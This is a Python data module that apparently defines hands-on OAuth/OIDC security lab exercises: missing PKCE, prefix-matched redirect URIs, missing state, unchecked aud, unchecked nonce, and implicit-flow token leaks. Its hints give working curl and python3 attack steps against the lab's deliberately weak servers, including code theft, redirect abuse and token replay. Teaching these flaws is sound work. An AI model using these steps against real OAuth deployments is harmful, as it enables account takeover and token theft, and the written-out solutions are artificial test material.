"""The OAuth labs' exercises as data (exercises.py has the others): the authorization server's
labs (no-pkce, redirect-prefix, implicit), judged at its /token or /userinfo, and the client
app's (no-state, wrong-aud, no-nonce), judged by the sessions the app made. `{url}` is the run's
weak server, `{provider}` a client app's authorization server.
"""

from __future__ import annotations

from authcli.server.lab.answer import VICTIM_PATH
from authcli.walkthroughs.lab import practice_client as client
from authcli.walkthroughs.lab import practice_oauth as oauth
from authcli.walkthroughs.lab.exercise_model import Exercise

CALLBACK = oauth.APP
TOKEN = ("curl -s -X POST {url}/token -d grant_type=authorization_code -d code=\"$CODE\" -d client_id=\"$CLIENT\" "
         "-d redirect_uri=")
FIELD = "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"id_token\"])'"
# A URL's parameter (query or fragment), printed by python3: no jq or URL parsing by hand.
PARAM = ("python3 -c 'import sys,urllib.parse as u; p=u.urlsplit(sys.argv[1]); "
         "print(u.parse_qs(p.query+\"&\"+p.fragment)[sys.argv[2]][0])'")
PORT_9 = ("{CALLBACK} is the app's registered redirect URI, on a port nothing listens on: the page never loads, "
          "but the URL is kept all the same").format(CALLBACK=CALLBACK)
EVIL = CALLBACK + "/../../attacker"
CHALLENGE = ("V=$(python3 -c 'import secrets; print(secrets.token_urlsafe(32))'); C=$(python3 -c 'import base64,"
             "hashlib,sys; print(base64.urlsafe_b64encode(hashlib.sha256(sys.argv[1].encode()).digest()).rstrip(b\"=\")"
             ".decode())' \"$V\")")
START = "Start a login at this app, keeping its cookie in jar.txt. {note}: curl -si -c jar.txt {{url}}/login"
POST_TOKEN = "curl -si -b jar.txt {url}/login/id-token --data-urlencode id_token=\"$ID_TOKEN\""
ID_LOGIN = ("Log in to this app as user 1 (a@b.com): get a session for user 1 from its POST /login/id-token, which "
            "takes an ID token (form field id_token), as the app's own front end would post one. ")

OAUTH_EXERCISES = [
    Exercise("no-pkce", "Get tokens for user 1 (a@b.com) from this authorization server's POST /token. User 1 "
             "logged in through their app when this exercise started; a proxy logged the redirect that "
             "carried the code (shown below).", ("curl",), (
        f"The app is a public client: client_id only, no secret, redirect URI {CALLBACK}. The code in the "
        "logged redirect (REDIRECT, pasted from the start) is what the app would send to /token; keep it in CODE: "
        "CODE=$(" + PARAM + " \"$REDIRECT\" code); echo \"code: $CODE\"",
        "An authorization code travels in the redirect's URL, where history, logs and Referer headers can "
        "keep it [^rfc9700-4.2] [^rfc9700-4.3]. PKCE binds it to a code_verifier only the app knows, and the server "
        "must check it [^rfc7636-4.6]; this one does not ask for PKCE.",
        "Redeem it as the app would, with no verifier: " + TOKEN + CALLBACK),
        oauth.no_pkce, leaked="From a proxy log, the app's client_id and the redirect user 1's browser followed "
        "(codes on this run's authorization server last an hour, to leave time to work by hand; real ones last "
        "minutes; " + PORT_9 + "). Paste these two lines into your shell:\n"
        "  CLIENT='{client_id}'  # the app's client_id\n"
        "  REDIRECT='{url}'  # the redirect user 1's browser followed",
        path="/token", account=False),
    Exercise("redirect-prefix", "Get tokens for user 1 (a@b.com) from this authorization server's POST /token. "
             "User 1 uses the app whose client_id is below and opens a link you send: POST JSON "
             "{\"link\": \"...\"} to /victim, and user 1 logs in through it.", ("curl", "python3"), (
        f"The app's registered redirect URI is {CALLBACK}. Ask for others and see what this server "
        "accepts: curl -s -o /dev/null -w '%{{http_code}}\\n' '{url}/authorize?response_type=code&client_id="
        "'$CLIENT'&scope=openid&state=x&code_challenge_method=S256&code_challenge=" + "A" * 43
        + "&redirect_uri=" + EVIL + "'",
        "This server takes any redirect URI that starts with a registered one; a browser resolves "
        "/callback/../../attacker to /attacker, a page that is not the app's. Redirect URIs must be "
        "compared as exact strings, the port of a native app's localhost redirect URI being the one "
        "exception [^rfc9700-2.1]. PKCE is no help here: you start the flow, so the code_verifier is yours "
        "[^rfc9700-4.1.1].",
        "Make a verifier and its challenge, and send user 1 the link: " + CHALLENGE + "; curl -s -X POST "
        "{url}/victim -H 'Content-Type: application/json' -d '{{\"link\": \"{url}/authorize?response_type=code"
        f"&client_id='$CLIENT'&scope=openid&state=x&code_challenge_method=S256&redirect_uri={EVIL}&"
        "code_challenge='$C'\"}}'",
        "This terminal shows where user 1's browser went; paste that URL into WENT='...', then redeem its "
        "code: CODE=$(" + PARAM + " \"$WENT\" code); " + TOKEN + EVIL + " -d code_verifier=\"$V\""),
        oauth.redirect_prefix, leaked="The app's client_id (codes on this run's authorization server last an hour, "
        "to leave time to work by hand; real ones last minutes); paste this line into your shell:\n"
        "  CLIENT='{value}'", path="/token", route=VICTIM_PATH, account=False),
    Exercise("no-state", "Make user 1's browser log in to this client app as you (eve), so that what they save "
             "there lands in your account. User 1 is logged in to the app and opens a link you send: POST JSON "
             "{\"link\": \"...\"} to /victim (a link to this app's /callback), and their browser opens it.",
             ("curl",), (
        "Start a login at the app as yourself and look where it sends you: its Location carries a state, the "
        "value the app should find again at its /callback, in the browser that started the login "
        "[^rfc6749-10.12]. Keep the Location's query (after ?) in QUERY: QUERY=$(curl -si {url}/login | "
        "tr -d '\\r' | sed -n 's/^[Ll]ocation: [^?]*?//p'); echo \"query: $QUERY\"",
        "This app never compares state, and binds no PKCE verifier or nonce to the browser either "
        "[^rfc9700-2.1]: any browser that opens a callback URL finishes that login, in the account its code "
        "was made for. Make a callback URL for your own account, and stop before opening it.",
        "Sign in as eve with that query at the authorization server's form, and print its answer's status and "
        "where it sends you, keeping that URL in CALLBACK instead of going there: ANSWER=$(curl -s -o /dev/null "
        "-w '%{{http_code}} %{{redirect_url}}' -X POST {provider}/authorize -d \"$QUERY\" -d email=eve@example.com "
        "-d password=eve -d decision=allow); echo \"$ANSWER\"; CALLBACK=${{ANSWER#* }}",
        "Send user 1 that URL: curl -s -X POST {url}/victim -H 'Content-Type: application/json' -d "
        "\"{{\\\"link\\\": \\\"$CALLBACK\\\"}}\""),
        client.no_state, path=VICTIM_PATH, route=VICTIM_PATH),
    Exercise("wrong-aud", ID_LOGIN + "You have an app of your own at the same authorization server (below); "
             "user 1 signs in to it through a link you send: POST JSON {\"link\": \"...\"} to /victim.",
             ("curl", "python3", "authcli decode"), (
        "Start a login at this app, keeping its cookie in jar.txt: its Location carries the nonce this login "
        "expects back in the ID token, and /login/id-token checks a token against the login in that cookie "
        "[^oidc-core-3.1.3.7]. Keep the nonce in NONCE: LOCATION=$(curl -si -c jar.txt {url}/login | tr -d '\\r' "
        "| sed -n 's/^[Ll]ocation: //p'); NONCE=$(" + PARAM + " \"$LOCATION\" nonce); echo \"nonce: $NONCE\"",
        "An ID token's aud names the client it was made for, and a client must refuse one whose aud does not "
        "name it [^oidc-core-3.1.3.7]. This app never looks: a token the same server made for your app, about "
        "user 1, passes here.",
        "Make a verifier and its challenge, and send user 1 a link to sign in to your app, with the nonce of "
        "hint 1: " + CHALLENGE + "; curl -s -X POST {url}/victim -H 'Content-Type: application/json' -d "
        "'{{\"link\": \"{provider}/authorize?response_type=code&client_id='$MY_CLIENT'&scope=openid&state=x"
        "&nonce='$NONCE'"
        f"&code_challenge_method=S256&redirect_uri={client.MINE}&code_challenge='$C'\"}}}}'",
        "This terminal shows where user 1's browser went; paste that URL into WENT='...', then redeem its code "
        "as your app and keep the answer's id_token in ID_TOKEN (authcli decode shows its sub and aud): "
        "CODE=$(" + PARAM + " \"$WENT\" code); ID_TOKEN=$(curl -s -u \"$MY_CLIENT:$MY_SECRET\" "
        f"{{provider}}/token -d grant_type=authorization_code -d code=\"$CODE\" -d redirect_uri={client.MINE} "
        "-d code_verifier=\"$V\" | " + FIELD + "); authcli decode \"$ID_TOKEN\"",
        "Post it into your login of hint 1: " + POST_TOKEN),
        client.wrong_aud, leaked="Your own app at the same authorization server, redirect URI " + client.MINE
        + "; paste these two lines into your shell:\n"
        "  MY_CLIENT='{client_id}'  # your app's client_id\n"
        "  MY_SECRET='{client_secret}'  # your app's client_secret", path="/login/id-token",
        route=VICTIM_PATH, account=False),
    Exercise("no-nonce", ID_LOGIN + "User 1 logged in to the app when this exercise started; a log of the "
             "app's token responses kept their ID token (shown below).", ("curl", "authcli decode"), (
        "Decode the logged token (ID_TOKEN, pasted from the start): it was made for this app (aud) by its "
        "authorization server, and has not expired; its nonce is the one user 1's login sent: authcli decode "
        "\"$ID_TOKEN\"",
        "A nonce ties an ID token to the one login that asked for it: the client keeps it in that browser's "
        "session and compares it, so a captured token cannot be replayed into another login "
        "[^oidc-core-15.5.2]. This app never compares it [^oidc-core-3.1.3.7].",
        START.format(note="Its Location carries a new nonce, not the token's"),
        "Post the captured token into your login: " + POST_TOKEN),
        client.no_nonce, leaked="From a log of the app's token responses, user 1's ID token (this run's "
        "authorization server makes ID tokens that last an hour); paste this line into your shell:\n"
        "  ID_TOKEN='{value}'", path="/login/id-token", account=False),
    Exercise("implicit", "Get user 1's (a@b.com) claims from this authorization server's GET /userinfo. User 1 "
             "logged in through their app's implicit-flow link when this exercise started; their browser's "
             "history kept the URL it went to (shown below).", ("curl", "authcli decode"), (
        "Look at the history line (HISTORY, pasted from the start): with response_type=token the authorization "
        "server sends the access token itself back in the redirect URL, in its fragment, after # "
        "[^rfc6749-4.2.2]. Keep it in TOKEN: TOKEN=$(" + PARAM + " \"$HISTORY\" access_token); "
        "echo \"token: $TOKEN\"",
        "Browsers send no fragment in requests and strip it from Referer [^referrer-policy-strip], but the "
        "browser's history keeps it, and every script on the app's page can read location.hash: RFC 9700 says "
        "clients SHOULD NOT use the implicit grant unless access token injection is prevented and such leaks "
        "are mitigated [^rfc9700-2.1.2]. See whose token it is: authcli decode \"$TOKEN\"",
        "This access token is a bearer token: whoever holds it can use it [^rfc6750-1.2]. /userinfo answers the "
        "claims of the token's user [^oidc-core-5.3] that its scope asked for: the app's link asked for openid "
        "email, so sub and email [^oidc-core-5.4]: curl -s -H \"Authorization: Bearer $TOKEN\" "
        "{url}/userinfo"),
        oauth.implicit, leaked="The app's client_id, and the URL user 1's browser went to, from its history (this "
        "run's authorization server makes access tokens that last an hour; " + PORT_9 + "). Paste these two "
        "lines into your shell:\n"
        "  CLIENT='{client_id}'  # the app's client_id\n"
        "  HISTORY='{url}'  # the URL in user 1's browser history",
        path="/userinfo", account=False),
]
